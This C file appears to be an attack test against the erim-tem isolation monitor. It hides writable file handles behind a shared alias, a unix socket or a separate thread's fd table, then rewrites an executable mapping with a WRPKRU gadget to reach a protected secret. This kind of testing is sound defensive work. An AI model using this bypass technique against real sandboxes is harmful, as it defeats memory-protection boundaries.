/* SPDX-License-Identifier: MIT */
/* atk_hidden_writer.c: a write capability to a file that erim-tem cannot
 * see when it grants execute on a MAP_PRIVATE mapping of that file, used
 * after the grant: the page cache behind a not-yet-copied private page
 * changes, and with it the executable bytes.  Three hiding places, each
 * tried in turn (the attack succeeds if any works):
 *
 *   shared:  the file mapped MAP_SHARED, read-only, from an O_RDWR fd that
 *            is then closed; made writable with mprotect after the grant;
 *   socket:  the O_RDWR fd in flight in a unix socket (SCM_RIGHTS), in no
 *            fd table; received back after the grant;
 *   thread:  the O_RDWR fd in the fd table of a thread cloned without
 *            CLONE_FILES (/proc/TGID/fd lists the leader's table only;
 *            erim-tem reads every fd table and refuses the grant);
 *   socket, execute by mprotect: as socket, the mapping made read-only
 *            first and executable by mprotect (the other grant path).
 *
 * The new bytes are a WRPKRU gadget; with protection keys the program
 * calls it with the trusted PKRU and reads the secret. */
#include <sched.h>
#include <sys/stat.h>

#include "atk_common.h"
#include "atk_file_exec.h"

static const uint8_t clean[] = { 0xb8, 0x07, 0x00, 0x00, 0x00, 0xc3 };   /* mov eax,7; ret */

/* the thread with a private fd table */
static const char *thr_path;
static volatile int thr_state;   /* 1 holds the fd, 2 write now, 3 written, -1 failed */

static int thr_main(void *arg)
{
	int fd = open(thr_path, O_RDWR);

	(void)arg;
	thr_state = fd >= 0 ? 1 : -1;
	while (thr_state == 1)
		syscall(SYS_sched_yield);
	if (thr_state == 2)
		thr_state = pwrite(fd, atk_gadget, sizeof atk_gadget, 0) == (ssize_t)sizeof atk_gadget ? 3 : -1;
	for (;;)
		syscall(SYS_pause);
	return 0;
}

/* One hiding place: 1 the executable mapping shows the gadget (and, with a
 * key, ran it), 0 refused somewhere, -1 set-up error. */
static int try_mode(const char *mode)
{
	static char stk[65536] __attribute__((aligned(16)));
	static int nth;
	char path[80];
	volatile uint8_t *x, *alias = NULL;
	int fd, wfd, sv[2] = { -1, -1 }, won, late = strstr(mode, "mprotect") != NULL;

	snprintf(path, sizeof path, "/tmp/atk_hidden_writer.%d.%d", (int)getpid(), nth++);
	if (atk_make_file(path, clean, sizeof clean) != 0)
		return -1;
	if (!strcmp(mode, "shared")) {
		if ((fd = open(path, O_RDWR)) < 0)
			return -1;
		alias = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
		close(fd);
		if (alias == MAP_FAILED)
			return -1;
	} else if (!strncmp(mode, "socket", 6)) {
		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || (fd = open(path, O_RDWR)) < 0)
			return -1;
		if (atk_send_fd(sv[0], fd) != 0)
			return -1;
		close(fd);
	} else {
		thr_path = path;
		if (clone(thr_main, stk + sizeof stk, CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, NULL) < 0)
			return -1;
		while (thr_state == 0)
			syscall(SYS_sched_yield);
		if (thr_state < 0)
			return -1;
	}
	fd = open(path, O_RDONLY);
	x = mmap(NULL, 4096, late ? PROT_READ : PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	if (x != MAP_FAILED && late && mprotect((void *)x, 4096, PROT_READ | PROT_EXEC) != 0)
		x = MAP_FAILED;   /* execute granted later, by mprotect */
	if (x == MAP_FAILED) {
		int e = errno;

		atk_say("%s: the clean file was not granted read+execute: %s", mode, strerror(e));
		unlink(path);
		/* the thread's own fd table is scanned too (tem_each_fd_table):
		 * the grant is refused while its writer exists */
		return !strcmp(mode, "thread") && e == EPERM ? 0 : -1;
	}
	if (!strcmp(mode, "shared")) {
		if (mprotect((void *)alias, 4096, PROT_READ | PROT_WRITE) == 0) {
			memcpy((void *)alias, atk_gadget, sizeof atk_gadget);
			atk_say("%s: the read-only shared alias was made writable; gadget written", mode);
		} else {
			atk_say("%s: mprotect(shared alias, RW): %s", mode, strerror(errno));
		}
	} else if (!strncmp(mode, "socket", 6)) {
		if ((wfd = atk_recv_fd(sv[1])) >= 0 && pwrite(wfd, atk_gadget, sizeof atk_gadget, 0) == (ssize_t)sizeof atk_gadget)
			atk_say("%s: the fd came back out of the socket; gadget written", mode);
		else
			atk_say("%s: fd back from the socket / pwrite: %s", mode, strerror(errno));
	} else {
		thr_state = 2;
		while (thr_state == 2)
			syscall(SYS_sched_yield);
		atk_say("%s: the thread's pwrite %s", mode, thr_state == 3 ? "wrote the gadget" : "failed");
	}
	unlink(path);
	won = atk_gadget_won(mode, x);
	if (!won)
		atk_say("%s: the executable bytes are the inspected ones (0x%02x ...)", mode, x[0]);
	munmap((void *)x, 4096);   /* no seam with the next mode's mapping */
	return won;
}

static enum atk_result atk_attack(void)
{
	static const char *const modes[] = { "shared", "socket", "thread", "socket, execute by mprotect" };
	int won = 0;
	size_t i;

	if (geteuid() != 0) {
		atk_say("needs root: erim-tem grants executable file mappings of root-owned files only");
		return ATK_NA;
	}
	for (i = 0; i < sizeof modes / sizeof modes[0]; i++) {
		int r = try_mode(modes[i]);

		if (r < 0 && !won)
			return ATK_ERROR;
		if (r < 0)
			break;
		won |= r;
	}
	return won ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_hidden_writer";
static int atk_needs_pku = 0;
